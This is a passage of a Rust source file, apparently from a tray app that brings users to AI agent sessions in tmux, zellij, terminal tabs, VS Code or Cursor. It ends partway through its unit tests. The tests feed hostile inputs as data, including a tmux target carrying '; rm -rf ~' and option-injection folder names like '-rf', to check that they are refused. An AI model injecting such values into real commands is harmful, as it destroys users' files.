//! Where a session runs and what to run to get there: the jump, decided as data.
//!
//! A jump brings the user to a session: its tmux or zellij pane, its terminal's tab, the editor
//! whose terminal runs it, or a new terminal in its folder. Deciding which, and the exact
//! programs and arguments, is pure here ([`decide_jump`], [`jump_launches`], [`jump_steps`],
//! [`reveal_launch`], [`remote_jump`]): the facts about the machine (the agent's environment and
//! ancestry, its tmux clients, what is on PATH) come in as arguments, so every rule is tested
//! without the terminals. The desktop shell gathers the facts it must ask programs for (`tmux
//! list-clients`), runs the launches with a deadline, and maps failures to the UI's errors.
//! [`process_facts`] reads the agent's process through the core's [`crate::process`] probes.
//!
//! What reaches a command line comes from session data (a cwd, a tmux location, a transcript
//! path read from files on disk), so:
//! - a folder or file is used only when its path is absolute: a relative one would resolve
//!   against the app's own folder, and an absolute path can never be read as an option;
//! - `--` ends the options before every path handed to `code`/`cursor` and macOS's `open`.
//!   `xdg-open` is the exception: it refuses `--` itself ("unexpected option"), and takes one
//!   argument, which the rule above makes an absolute path;
//! - tmux is addressed by server socket and fully qualified target ([`tmux`]);
//! - a terminal is started through `setsid -f`, which returns at once, so the user's terminal
//!   is never the app's child (nor killed at the runner's deadline).
//!
//! Windows decides and launches differently ([`windows`]: Windows Terminal, VS Code's
//! `code.cmd`, a PowerShell console, each started in the session's folder); [`decide_jump`],
//! [`jump_launches`], [`jump_steps`], [`remote_jump`] and [`reveal_launch`] hand over to it there.
//! It is compiled everywhere, so its rules are tested on every platform.

pub mod terminals;
pub mod tmux;
pub mod windows;

use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::Duration;

use crate::model::Session;
use crate::paths::{Desktop, THIS_DESKTOP};

use terminals::{
    focus_launches, terminal_of, zellij_launch, zellij_of, FocusCommand, Terminal, ZellijPane,
};
use tmux::{socket_from_env, TmuxLocation, TmuxServer};

/// How long `tmux select-window`/`select-pane` may take (it answers in milliseconds).
pub const TMUX_TIMEOUT: Duration = Duration::from_secs(2);
/// How long an editor's CLI, `xdg-open`, `open` or `setsid` may take to hand off.
pub const LAUNCH_TIMEOUT: Duration = Duration::from_secs(10);
/// The program that opens the user's preferred terminal (Debian's alternatives; not on macOS,
/// where Terminal.app is opened with `open -a`).
pub const TERMINAL_PROGRAM: &str = "x-terminal-emulator";

/// Whether a launch's output is wanted.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Capture {
    /// stdout and stderr to /dev/null (launchers, which may leave a program holding them).
    Nothing,
    /// stdout and stderr read into memory (commands that leave nothing behind).
    Output,
    /// Started and not waited for, its stdio left alone, in a console window of its own when it
    /// is a console program. Windows only ([`windows`]): a PowerShell console stays open for
    /// the user, Explorer reports 1 even when it worked, and Windows leaves no zombie behind a
    /// child that is not waited for. Elsewhere the runner waits as for [`Capture::Nothing`].
    Detached,
}

/// How to bring the user to a session.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum JumpPlan {
    /// Select the window, then the pane, on the agent's tmux server (after bringing the
    /// terminal of its most recent client to the front, when that is known).
    Tmux {
        server: TmuxServer,
        location: TmuxLocation,
        front: Option<FrontTerminal>,
    },
    /// Select the zellij pane (after bringing its terminal to the front, when known).
    Zellij {
        pane: ZellijPane,
        front: Option<FrontTerminal>,
    },
    /// Bring the terminal's tab that runs the session to the front (kitty, WezTerm,
    /// Terminal.app, iTerm2, Ghostty, GNOME Terminal, Konsole: see [`terminals`]).
    Tab {
        front: FrontTerminal,
        dir: Option<PathBuf>,
    },
    /// Open the session's folder in the editor whose terminal runs it (`code -- <dir>`).
    Editor { editor: Editor, dir: PathBuf },
    /// Open a terminal in the session's folder.
    Terminal { dir: PathBuf },
}

/// An editor with a built-in terminal that agents are often run in.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Editor {
    VsCode,
    Cursor,
}

impl Editor {
    /// The command that opens a folder in it (what each installs on PATH).
    pub fn program(self) -> &'static str {
        match self {
            Editor::VsCode => "code",
            Editor::Cursor => "cursor",
        }
    }
}

/// What is known about a session's process: the editor whose terminal runs it, and the tmux
/// server it runs under (from its `TMUX` variable).
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct ProcessFacts {
    pub editor: Option<Editor>,
    pub tmux_socket: Option<PathBuf>,
    /// The terminal emulator, from its environment and ancestry.
    pub terminal: Option<Terminal>,
    /// Its terminal device (`/dev/ttys003`): how Terminal.app and iTerm2 find its tab.
    pub tty: Option<String>,
    pub zellij: Option<ZellijPane>,
    /// For a session in tmux: the terminal of the tmux client used last (the agent's own
    /// environment names the terminal the tmux server was started from, maybe long closed).
    pub tmux_client: Option<FrontTerminal>,
}

/// A terminal to bring to the front, and the device of the tab to select in it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct FrontTerminal {
    pub terminal: Terminal,
    pub tty: Option<String>,
}

/// A program and its arguments, as a jump or a reveal will run it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Launch {
    pub program: String,
    pub args: Vec<String>,
    /// The folder it starts in (a terminal opens there).
    pub cwd: Option<PathBuf>,
    pub capture: Capture,
    pub timeout: Duration,
}

impl Launch {
    pub fn new(program: &str, args: &[&str]) -> Self {
        Launch {
            program: program.to_string(),
            args: args.iter().map(|a| a.to_string()).collect(),
            cwd: None,
            capture: Capture::Nothing,
            timeout: LAUNCH_TIMEOUT,
        }
    }

    /// Appends `path` as one argument.
    pub fn path(mut self, path: &Path) -> Self {
        self.args.push(path.display().to_string());
        self
    }

    /// The command that runs it (stdio and the deadline are the runner's). On Windows a
    /// [`Capture::Detached`] program gets a console window of its own, and every other one none
    /// (a console program started from the app would otherwise flash a window).
    pub fn command(&self) -> Command {
        let mut command = Command::new(&self.program);
        command.args(&self.args);
        if let Some(cwd) = &self.cwd {
            command.current_dir(cwd);
        }
        #[cfg(windows)]
        {
            use std::os::windows::process::CommandExt;
            /// `CREATE_NEW_CONSOLE` and `CREATE_NO_WINDOW` (winbase.h).
            const CREATE_NEW_CONSOLE: u32 = 0x0000_0010;
            const CREATE_NO_WINDOW: u32 = 0x0800_0000;
            command.creation_flags(match self.capture {
                Capture::Detached => CREATE_NEW_CONSOLE,
                Capture::Nothing | Capture::Output => CREATE_NO_WINDOW,
            });
        }
        command
    }
}
/// Which editor's terminal a process runs in, from its environment and the names of its
/// ancestors (nearest first). VS Code and Cursor (a VS Code fork) both set
/// `TERM_PROGRAM=vscode` in their terminals; Cursor shows itself in `CURSOR_*` variables, in
/// paths to its own helper programs, or in the name of an ancestor process.
pub fn editor_of(env: &[(String, String)], ancestors: &[String]) -> Option<Editor> {
    let var = |name: &str| env.iter().find(|(k, _)| k == name).map(|(_, v)| v.as_str());
    let named = |name: &str| {
        ancestors
            .iter()
            .any(|a| program_stem(a).eq_ignore_ascii_case(name))
    };
    let in_vscode_terminal = var("TERM_PROGRAM") == Some("vscode");
    let cursor_signs = env.iter().any(|(k, _)| k.starts_with("CURSOR_"))
        || [
            "VSCODE_GIT_ASKPASS_NODE",
            "VSCODE_GIT_ASKPASS_MAIN",
            "GIT_ASKPASS",
        ]
        .iter()
        .filter_map(|k| var(k))
        .any(|path| path.to_ascii_lowercase().contains("cursor"))
        || named("cursor");
    if (in_vscode_terminal || named("cursor")) && cursor_signs {
        Some(Editor::Cursor)
    } else if in_vscode_terminal || named("code") {
        Some(Editor::VsCode)
    } else {
        None
    }
}

/// A process name without the `.exe` Windows shows on it (`Code.exe` → `Code`), so that one
/// list of names tells programs apart on every platform.
pub fn program_stem(name: &str) -> &str {
    let len = name.len();
    match name.get(len.saturating_sub(4)..) {
        Some(ext) if len > 4 && ext.eq_ignore_ascii_case(".exe") => &name[..len - 4],
        _ => name,
    }
}

/// Where a jump goes, decided from the session, what is known of its process and which
/// programs are on PATH. Pure: the facts about the machine come in as arguments. On Windows,
/// [`windows::decide_jump`].
///
/// A tmux pane wins (it names the exact place); then the editor, when its command is installed;
/// then a terminal in the session's folder. A folder that is not an absolute path is nowhere to
/// go.
pub fn decide_jump(
    session: &Session,
    facts: &ProcessFacts,
    on_path: impl Fn(&str) -> bool,
) -> Option<JumpPlan> {
    decide_jump_on(THIS_DESKTOP, session, facts, on_path)
}

/// [`decide_jump`] as `desktop` makes it (so each desktop's decisions are tested on every OS).
pub fn decide_jump_on(
    desktop: Desktop,
    session: &Session,
    facts: &ProcessFacts,
    on_path: impl Fn(&str) -> bool,
) -> Option<JumpPlan> {
    if desktop == Desktop::Windows {
        return windows::decide_jump(session, facts, on_path);
    }
    if let Some(location) = session.tmux.as_deref().and_then(TmuxLocation::parse) {
        return Some(JumpPlan::Tmux {
            server: TmuxServer::from_socket(facts.tmux_socket.as_deref()),
            location,
            front: facts.tmux_client.clone(),
        });
    }
    let own_terminal = facts.terminal.clone().map(|terminal| FrontTerminal {
        terminal,
        tty: facts.tty.clone(),
    });
    if let Some(pane) = facts.zellij.clone() {
        return Some(JumpPlan::Zellij {
            pane,
            front: own_terminal,
        });
    }
    let dir = session
        .cwd
        .as_deref()
        .map(PathBuf::from)
        .filter(|d| is_unix_absolute(d));
    if let Some(front) = own_terminal.filter(|f| !front_launches_on(desktop, f, None).is_empty()) {
        return Some(JumpPlan::Tab { front, dir });
    }
    let dir = dir?;
    match facts.editor {
        Some(editor) if on_path(editor.program()) => Some(JumpPlan::Editor { editor, dir }),
        _ => Some(JumpPlan::Terminal { dir }),
    }
}

/// A unix folder path is absolute when it starts at the root (read the same on every host, so
/// the unix decisions are tested on Windows too).
fn is_unix_absolute(path: &Path) -> bool {
    path.to_string_lossy().starts_with('/')
}

/// What brings `front` forward on this platform (empty: it cannot be addressed here).
pub fn front_launches(front: &FrontTerminal, dir: Option<&Path>) -> Vec<Launch> {
    front_launches_on(THIS_DESKTOP, front, dir)
}

/// [`front_launches`] on `desktop`.
pub fn front_launches_on(
    desktop: Desktop,
    front: &FrontTerminal,
    dir: Option<&Path>,
) -> Vec<Launch> {
    let folder = dir.map(|d| d.display().to_string());
    focus_launches(
        &front.terminal,
        front.tty.as_deref(),
        folder.as_deref(),
        desktop == Desktop::MacOs,
    )
    .into_iter()
    .map(Launch::from)
    .collect()
}

impl From<FocusCommand> for Launch {
    fn from(command: FocusCommand) -> Self {
        let mut launch = Launch::new(&command.program, &[]);
        launch.args = command.args;
        launch.capture = Capture::Output;
        launch
    }
}

/// What is known of `pid`'s process, read through the core's probes ([`crate::process`]:
/// Linux `/proc`; macOS `proc_pidinfo`, `KERN_PROCARGS2`, `ps`): the editor whose terminal runs
/// it (from its environment and the names of up to a few ancestors), its tmux server, its
/// terminal and tty, its zellij pane. The tmux client is the caller's to add (it takes asking
/// tmux). Blocking: a few small file reads.
pub fn process_facts(pid: u32) -> ProcessFacts {
    let env = process_environ(pid);
    let ancestors = ancestor_names(pid);
    ProcessFacts {
        editor: editor_of(&env, &ancestors),
        tmux_socket: socket_from_env(&env),
        terminal: terminal_of(&env, &ancestors),
        tty: crate::process::tty(pid),
        zellij: zellij_of(&env),
        tmux_client: None,
    }
}

/// The terminal a tmux client runs in (`pid` and `tty` as `tmux list-clients` reported them:
/// see [`terminals::most_recent_tmux_client`]).
pub fn client_terminal(pid: u32, tty: Option<String>) -> Option<FrontTerminal> {
    let env = process_environ(pid);
    let ancestors = ancestor_names(pid);
    Some(FrontTerminal {
        terminal: terminal_of(&env, &ancestors)?,
        tty,
    })
}

/// The names of up to 8 ancestors of `pid`, nearest first.
fn ancestor_names(pid: u32) -> Vec<String> {
    use crate::process::{ancestry, SystemProcesses};
    ancestry(&SystemProcesses, pid, 8)
        .into_iter()
        .map(|(_, info)| info.comm)
        .collect()
}

/// A process's environment (readable for the user's own processes; empty otherwise, or where
/// `/proc` is absent).
pub fn process_environ(pid: u32) -> Vec<(String, String)> {
    crate::process::environ(pid).unwrap_or_default()
}

/// The `tmux list-clients` arguments (after the server's) that list the clients of
/// `location`'s session, in the form [`terminals::most_recent_tmux_client`] reads.
pub fn tmux_clients_args(location: &TmuxLocation) -> Vec<String> {
    vec![
        "list-clients".to_string(),
        "-t".to_string(),
        location.session_target(),
        "-F".to_string(),
        "#{client_activity} #{client_pid} #{client_tty}".to_string(),
    ]
}

/// The programs a jump runs, in order. Pure. On Windows, [`windows::jump_launches`].
pub fn jump_launches(plan: &JumpPlan) -> Vec<Launch> {
    jump_launches_on(THIS_DESKTOP, plan)
}

/// [`jump_launches`] on `desktop`.
pub fn jump_launches_on(desktop: Desktop, plan: &JumpPlan) -> Vec<Launch> {
    if desktop == Desktop::Windows {
        return windows::jump_launches(plan);
    }
    match plan {
        JumpPlan::Tmux {
            server,
            location,
            front,
        } => {
            let tmux = |verb: &str, target: String| {
                let mut launch = Launch::new("tmux", &[]);
                launch.args = server.args();
                launch
                    .args
                    .extend([verb.to_string(), "-t".to_string(), target]);
                launch.capture = Capture::Output;
                launch.timeout = TMUX_TIMEOUT;
                launch
            };
            let mut launches = front
                .as_ref()
                .map(|f| front_launches_on(desktop, f, None))
                .unwrap_or_default();
            launches.push(tmux("select-window", location.window_target()));
            if location.has_pane() {
                launches.push(tmux("select-pane", location.pane_target()));
            }
            launches
        }
        JumpPlan::Zellij { pane, front } => {
            let mut launches = front
                .as_ref()
                .map(|f| front_launches_on(desktop, f, None))
                .unwrap_or_default();
            launches.push(Launch::from(zellij_launch(pane)));
            launches
        }
        JumpPlan::Tab { front, dir } => front_launches_on(desktop, front, dir.as_deref()),
        JumpPlan::Editor { editor, dir } => vec![Launch::new(editor.program(), &["--"]).path(dir)],
        JumpPlan::Terminal { dir } => vec![terminal_launch_on(desktop, dir)],
    }
}

/// How a jump is carried out: what runs, what must hold first, and where to go instead.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct JumpSteps {
    /// A folder that must exist before anything runs (else the jump is refused: the session's
    /// folder is gone).
    pub folder: Option<PathBuf>,
    /// A program that must be on PATH before anything runs.
    pub program: Option<&'static str>,
    /// Run first, best effort: a failure is logged and the jump goes on (the terminal brought
    /// forward before a tmux or zellij pane is selected in it).
    pub best_effort: Vec<Launch>,
    /// Run in order; the first failure is the jump's.
    pub required: Vec<Launch>,
    /// What the required launches do, for the error ("cannot {what}: …").
    pub what: &'static str,
    /// When a required launch fails: the jump to make instead, if its folder exists (a tab that
    /// cannot be reached: a new terminal in the session's folder).
    pub fallback: Option<JumpPlan>,
}

/// What the best-effort launches do, for the log.
pub const BRING_FORWARD: &str = "bring the terminal forward";

/// How `plan` is carried out. Pure. On Windows, [`windows::jump_steps`].
pub fn jump_steps(plan: &JumpPlan) -> JumpSteps {
    jump_steps_on(THIS_DESKTOP, plan)
}

/// [`jump_steps`] on `desktop`.
pub fn jump_steps_on(desktop: Desktop, plan: &JumpPlan) -> JumpSteps {
    if desktop == Desktop::Windows {
        return windows::jump_steps(plan);
    }
    let launches = jump_launches_on(desktop, plan);
    let steps = |required: Vec<Launch>, what: &'static str| JumpSteps {
        folder: None,
        program: None,
        best_effort: Vec::new(),
        required,
        what,
        fallback: None,
    };
    match plan {
        JumpPlan::Tmux { front, .. } | JumpPlan::Zellij { front, .. } => {
            let front_count = front
                .as_ref()
                .map(|f| front_launches_on(desktop, f, None).len())
                .unwrap_or(0);
            let mut select = launches;
            let best_effort: Vec<Launch> = select.drain(..front_count.min(select.len())).collect();
            JumpSteps {
                best_effort,
                ..steps(select, "select the pane")
            }
        }
        JumpPlan::Tab { dir, .. } => JumpSteps {
            fallback: dir.clone().map(|dir| JumpPlan::Terminal { dir }),
            ..steps(launches, "bring the terminal's tab forward")
        },
        JumpPlan::Editor { editor, dir } => JumpSteps {
            folder: Some(dir.clone()),
            ..steps(launches, editor.program())
        },
        JumpPlan::Terminal { dir } => JumpSteps {
            folder: Some(dir.clone()),
            program: (desktop != Desktop::MacOs).then_some(TERMINAL_PROGRAM),
            ..steps(launches, "open a terminal")
        },
    }
}

/// A new terminal in `dir`: Terminal.app on macOS; elsewhere `setsid -f` forks the terminal off
/// and returns at once (the terminal is not the app's child).
fn terminal_launch_on(desktop: Desktop, dir: &Path) -> Launch {
    if desktop == Desktop::MacOs {
        return Launch::new("open", &["-a", "Terminal", "--"]).path(dir);
    }
    let mut launch = Launch::new("setsid", &["-f", TERMINAL_PROGRAM]);
    launch.cwd = Some(dir.to_path_buf());
    launch
}

/// A remote session's jump: a terminal running `argv` (`ssh -t -- DESTINATION …`, built by
/// [`crate::remote::command::jump_argv`]).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RemoteJump {
    /// The command line, every word quoted: what the user is told to run where no terminal can
    /// be opened.
    pub command_line: String,
    /// The terminal to open with it; None where none is known (macOS).
    pub launch: Option<Launch>,
    /// A program that must be on PATH for `launch` to work.
    pub program: Option<&'static str>,
    /// What the launch's terminal runs (Linux): a `sh` script to write, private and executable,
    /// at the path given to [`remote_jump`] before the launch runs. None where the launch runs
    /// `argv` itself (Windows) or there is no launch.
    pub script: Option<String>,
}

/// How to open a terminal running `argv`. Pure. On Windows, [`windows::remote_jump`].
///
/// `argv` holds text from the remote session (its tmux session's name, its folder), quoted for
/// the remote's shell. A terminal's `-e` is no place for it: `x-terminal-emulator` is whichever
/// terminal the system chose, and several of them join what follows `-e` into one string and
/// split it again by their own rules (or hand it to a shell), which undoes the quoting. So the
/// terminal is given only `script` (a path of ours), and the words go into a script whose one
/// `exec` line quotes each of them for `sh`; the script removes itself when it starts.
pub fn remote_jump(argv: &[String], script: &Path) -> RemoteJump {
    remote_jump_on(THIS_DESKTOP, argv, script)
}

/// [`remote_jump`] on `desktop`.
pub fn remote_jump_on(desktop: Desktop, argv: &[String], script: &Path) -> RemoteJump {
    if desktop == Desktop::Windows {
        return windows::remote_jump(argv);
    }
    let command_line = argv
        .iter()
        .map(|w| crate::remote::command::shell_quote(w))
        .collect::<Vec<_>>()
        .join(" ");
    if desktop == Desktop::MacOs || argv.is_empty() {
        return RemoteJump {
            command_line,
            launch: None,
            program: None,
            script: None,
        };
    }
    let launch = Launch::new("setsid", &["-f", TERMINAL_PROGRAM, "-e"]).path(script);
    RemoteJump {
        script: Some(format!(
            "#!/bin/sh\n# Agent Tray: one jump to a remote session. Removes itself as it starts.\nrm -f -- \"$0\"\nexec {command_line}\n"
        )),
        command_line,
        launch: Some(launch),
        program: Some(TERMINAL_PROGRAM),
    }
}

/// Why a session's transcript cannot be shown here.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum TranscriptRefusal {
    #[error("no transcript is known for this session")]
    Unknown,
    /// The path is the remote's: a folder of that name here is another folder (or one the remote
    /// chose to point at).
    #[error("this session's transcript is on {0}, not on this machine")]
    OnRemote(String),
}

/// The transcript file to show for `session`: only a local session's; a remote's path names a
/// file on that machine and is never opened here.
pub fn local_transcript(session: &Session) -> Result<&str, TranscriptRefusal> {
    if let Some(host) = &session.host {
        return Err(TranscriptRefusal::OnRemote(host.clone()));
    }
    session
        .transcript_path
        .as_deref()
        .ok_or(TranscriptRefusal::Unknown)
}

/// How a file is shown in the file manager (macOS selects it; elsewhere its folder opens, on
/// Windows in Explorer: [`windows::reveal_launch`]).
/// None for a path that is not absolute.
pub fn reveal_launch(path: &Path) -> Option<Launch> {
    if !path.is_absolute() {
        return None;
    }
    reveal_launch_on(THIS_DESKTOP, path, path.is_dir())
}

/// [`reveal_launch`] on `desktop`, for an absolute `path` (`is_dir`: whether it is a folder).
pub fn reveal_launch_on(desktop: Desktop, path: &Path, is_dir: bool) -> Option<Launch> {
    match desktop {
        Desktop::MacOs => Some(Launch::new("open", &["-R", "--"]).path(path)),
        Desktop::Windows => windows::reveal_launch(&path.display().to_string(), is_dir),
        Desktop::Linux => {
            let folder = if is_dir {
                path
            } else {
                path.parent().unwrap_or(path)
            };
            Some(Launch::new("xdg-open", &[]).path(folder))
        }
    }
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod transcript_tests {
    use super::*;
    use crate::model::{Agent, SessionState};

    #[test]
    fn a_remotes_transcript_path_is_never_opened_here() {
        let mut s = Session::new("s1", Agent::Claude, SessionState::Idle, chrono::Utc::now());
        assert_eq!(local_transcript(&s), Err(TranscriptRefusal::Unknown));
        s.transcript_path = Some("/home/dev/.claude/projects/p/s1.jsonl".into());
        assert_eq!(
            local_transcript(&s),
            Ok("/home/dev/.claude/projects/p/s1.jsonl")
        );
        s.host = Some("gpu-box".into());
        let refused = local_transcript(&s).unwrap_err();
        assert_eq!(
            refused.to_string(),
            "this session's transcript is on gpu-box, not on this machine"
        );
    }
}

/// The jump as Linux and macOS make it (Windows hands over to [`windows`], tested there), run on
/// every OS: the decisions are pure functions of the desktop.
#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::terminals::{Terminal, ZellijPane};
    use super::*;
    use crate::model::{Agent, SessionState};

    /// The unix desktop these tests decide for: the one they run on, or Linux on Windows.
    const DESKTOP: Desktop = if cfg!(target_os = "macos") {
        Desktop::MacOs
    } else {
        Desktop::Linux
    };

    fn decide_jump(
        session: &Session,
        facts: &ProcessFacts,
        on_path: impl Fn(&str) -> bool,
    ) -> Option<JumpPlan> {
        decide_jump_on(DESKTOP, session, facts, on_path)
    }

    fn jump_launches(plan: &JumpPlan) -> Vec<Launch> {
        jump_launches_on(DESKTOP, plan)
    }

    fn jump_steps(plan: &JumpPlan) -> JumpSteps {
        jump_steps_on(DESKTOP, plan)
    }

    fn remote_jump(argv: &[String], script: &Path) -> RemoteJump {
        remote_jump_on(DESKTOP, argv, script)
    }

    /// As [`super::reveal_launch`] decides on the unix desktop: unix paths are absolute here.
    fn reveal_launch(path: &Path) -> Option<Launch> {
        is_unix_absolute(path).then(|| reveal_launch_on(DESKTOP, path, false))?
    }

    #[cfg(target_os = "linux")]
    fn process_editor(pid: u32) -> Option<Editor> {
        process_facts(pid).editor
    }

    fn session() -> Session {
        let mut s = Session::new("s", Agent::Claude, SessionState::Idle, chrono::Utc::now());
        s.cwd = Some("/home/dev/api".into());
        s
    }

    fn env(pairs: &[(&str, &str)]) -> Vec<(String, String)> {
        pairs
            .iter()
            .map(|(k, v)| (k.to_string(), v.to_string()))
            .collect()
    }

    fn names(list: &[&str]) -> Vec<String> {
        list.iter().map(|s| s.to_string()).collect()
    }

    fn editor(editor: Editor) -> ProcessFacts {
        ProcessFacts {
            editor: Some(editor),
            ..ProcessFacts::default()
        }
    }

    fn tmux_plan(plan: Option<JumpPlan>) -> (TmuxServer, String, String) {
        match plan {
            Some(JumpPlan::Tmux {
                server, location, ..
            }) => (server, location.window_target(), location.pane_target()),
            other => panic!("not a tmux jump: {other:?}"),
        }
    }

    #[test]
    fn a_session_in_tmux_jumps_to_its_pane_on_its_own_server() {
        let mut s = session();
        s.tmux = Some("work:@3.%7".into());
        let facts = ProcessFacts {
            editor: Some(Editor::VsCode),
            tmux_socket: Some("/tmp/tmux-1000/other".into()),
            ..ProcessFacts::default()
        };
        let plan = decide_jump(&s, &facts, |_| true);
        let (server, window, pane) = tmux_plan(plan.clone());
        assert_eq!(server, TmuxServer::Socket("/tmp/tmux-1000/other".into()));
        assert_eq!((window.as_str(), pane.as_str()), ("work:@3", "work:@3.%7"));
        // What runs: the server's socket first, then targets that name the session; never a
        // bare `%7`, which exists on every tmux server.
        let args: Vec<Vec<String>> = jump_launches(&plan.unwrap_or_else(|| panic!("a plan")))
            .into_iter()
            .map(|l| {
                assert_eq!(l.program, "tmux");
                l.args
            })
            .collect();
        assert_eq!(
            args,
            [
                [
                    "-S",
                    "/tmp/tmux-1000/other",
                    "select-window",
                    "-t",
                    "work:@3"
                ],
                [
                    "-S",
                    "/tmp/tmux-1000/other",
                    "select-pane",
                    "-t",
                    "work:@3.%7"
                ],
            ]
        );
        // The agent's environment could not be read: the default server, still fully qualified.
        let (server, _, pane) = tmux_plan(decide_jump(&s, &ProcessFacts::default(), |_| true));
        assert_eq!((server, pane.as_str()), (TmuxServer::Default, "work:@3.%7"));
    }

    fn kitty(window: &str) -> Terminal {
        Terminal::Kitty {
            window_id: window.into(),
            listen_on: Some("unix:/tmp/kitty-1".into()),
        }
    }

    fn programs(plan: &JumpPlan) -> Vec<(String, Vec<String>)> {
        jump_launches(plan)
            .into_iter()
            .map(|l| (l.program, l.args))
            .collect()
    }

    #[test]
    fn tmux_inside_a_terminal_brings_the_clients_terminal_first_then_the_pane() {
        let mut s = session();
        s.tmux = Some("work:@3.%7".into());
        let facts = ProcessFacts {
            // The agent's own environment names the terminal tmux was started from: ignored.
            terminal: Some(kitty("99")),
            tmux_client: Some(FrontTerminal {
                terminal: kitty("2"),
                tty: Some("/dev/pts/5".into()),
            }),
            ..ProcessFacts::default()
        };
        let plan = decide_jump(&s, &facts, |_| true).unwrap_or_else(|| panic!("a plan"));
        let run = programs(&plan);
        let order: Vec<&str> = run.iter().map(|(p, _)| p.as_str()).collect();
        #[cfg(not(target_os = "macos"))]
        assert_eq!(order, ["kitty", "tmux", "tmux"]);
        #[cfg(target_os = "macos")]
        assert_eq!(order, ["open", "kitty", "tmux", "tmux"]);
        assert!(run.iter().any(|(_, a)| a.contains(&"id:2".to_string())));
        assert!(!run.iter().any(|(_, a)| a.contains(&"id:99".to_string())));
    }

    #[test]
    fn a_session_in_a_terminal_tab_brings_that_tab_forward_before_any_editor_or_new_terminal() {
        let facts = ProcessFacts {
            terminal: Some(kitty("4")),
            editor: Some(Editor::VsCode),
            ..ProcessFacts::default()
        };
        let plan = decide_jump(&session(), &facts, |_| true);
        assert!(
            matches!(&plan, Some(JumpPlan::Tab { front, dir: Some(_) }) if front.terminal == kitty("4")),
            "{plan:?}"
        );
        // A terminal that cannot be addressed here (kitty without a socket on Linux, Ghostty
        // on Linux): a terminal in the folder, as before.
        #[cfg(not(target_os = "macos"))]
        for terminal in [
            Terminal::Kitty {
                window_id: "4".into(),
                listen_on: None,
            },
            Terminal::Ghostty,
        ] {
            let facts = ProcessFacts {
                terminal: Some(terminal),
                ..ProcessFacts::default()
            };
            assert_eq!(
                decide_jump(&session(), &facts, |_| true),
                Some(JumpPlan::Terminal {
                    dir: PathBuf::from("/home/dev/api")
                })
            );
        }
        // A session in zellij inside WezTerm: WezTerm's pane, then zellij's.
        let facts = ProcessFacts {
            terminal: Some(Terminal::WezTerm {
                pane_id: Some("8".into()),
            }),
            zellij: Some(ZellijPane {
                session: "work".into(),
                pane_id: "2".into(),
            }),
            ..ProcessFacts::default()
        };
        let plan = decide_jump(&session(), &facts, |_| true).unwrap_or_else(|| panic!("a plan"));
        let run = programs(&plan);
        assert_eq!(run.last().map(|(p, _)| p.as_str()), Some("zellij"));
        assert!(run.iter().any(|(p, _)| p == "wezterm"));
    }

    #[test]
    fn a_bare_or_malformed_tmux_location_is_not_jumped_to() {
        for location in ["%7", "work:%7", "work:@3.%7; rm -rf ~", "-t:@1"] {
            let mut s = session();
            s.tmux = Some(location.into());
            assert_eq!(
                decide_jump(&s, &ProcessFacts::default(), |_| true),
                Some(JumpPlan::Terminal {
                    dir: PathBuf::from("/home/dev/api")
                }),
                "{location:?}: the folder instead"
            );
        }
    }

    #[test]
    fn a_session_outside_tmux_opens_a_terminal_in_its_folder() {
        assert_eq!(
            decide_jump(&session(), &ProcessFacts::default(), |_| true),
            Some(JumpPlan::Terminal {
                dir: PathBuf::from("/home/dev/api")
            })
        );
        let mut nowhere = session();
        nowhere.cwd = None;
        assert_eq!(
            decide_jump(&nowhere, &editor(Editor::Cursor), |_| true),
            None,
            "nothing to jump to"
        );
    }

    #[test]
    fn a_relative_folder_is_nowhere_to_go() {
        for cwd in ["-rf", "api", "./api", "--help", ""] {
            let mut s = session();
            s.cwd = Some(cwd.into());
            assert_eq!(
                decide_jump(&s, &editor(Editor::VsCode), |_| true),
                None,
                "{cwd:?}"
            );
        }
        assert_eq!(reveal_launch(Path::new("-x/transcript.jsonl")), None);
        assert_eq!(reveal_launch(Path::new("transcript.jsonl")), None);
    }

    #[test]
    fn every_path_handed_to_a_program_is_absolute_and_after_the_options() {
        let dir = PathBuf::from("/home/dev/-rf");
        let [editor] = jump_launches(&JumpPlan::Editor {
            editor: Editor::Cursor,
            dir: dir.clone(),
        })
        .try_into()
        .unwrap_or_else(|l| panic!("one launch: {l:?}"));
        assert_eq!(editor.program, "cursor");
        assert_eq!(editor.args, ["--", "/home/dev/-rf"]);
        let [terminal] = jump_launches(&JumpPlan::Terminal { dir: dir.clone() })
            .try_into()
            .unwrap_or_else(|l| panic!("one launch: {l:?}"));
        #[cfg(not(target_os = "macos"))]
        {
            // The folder is where it starts, not an argument; setsid returns at once.
            assert_eq!(
                (terminal.program.as_str(), terminal.args.as_slice()),
                (
                    "setsid",
                    ["-f".to_string(), "x-terminal-emulator".to_string()].as_slice()
                )
            );
            assert_eq!(terminal.cwd.as_deref(), Some(dir.as_path()));
            // xdg-open refuses `--`; its one argument is an absolute folder.
            let reveal = reveal_launch(Path::new("/home/dev/-rf/t.jsonl"))
                .unwrap_or_else(|| panic!("absolute"));
            assert_eq!(reveal.program, "xdg-open");
            assert_eq!(reveal.args, ["/home/dev/-rf"]);
        }
        #[cfg(target_os = "macos")]
        {
            assert_eq!(terminal.args, ["-a", "Terminal", "--", "/home/dev/-rf"]);
            let reveal = reveal_launch(Path::new("/home/dev/-rf/t.jsonl"))
                .unwrap_or_else(|| panic!("absolute"));
            assert_eq!(reveal.args, ["-R", "--", "/home/dev/-rf/t.jsonl"]);
        }
    }

    #[test]
    fn a_session_in_an_editors_terminal_opens_its_folder_in_that_editor() {
        assert_eq!(
            decide_jump(&session(), &editor(Editor::Cursor), |p| p == "cursor"),
            Some(JumpPlan::Editor {
                editor: Editor::Cursor,
                dir: PathBuf::from("/home/dev/api")
            })
        );
        // VS Code's terminal, but `code` was never put on PATH: a terminal in the folder
        // is still somewhere to go.
        assert_eq!(
            decide_jump(&session(), &editor(Editor::VsCode), |_| false),
            Some(JumpPlan::Terminal {
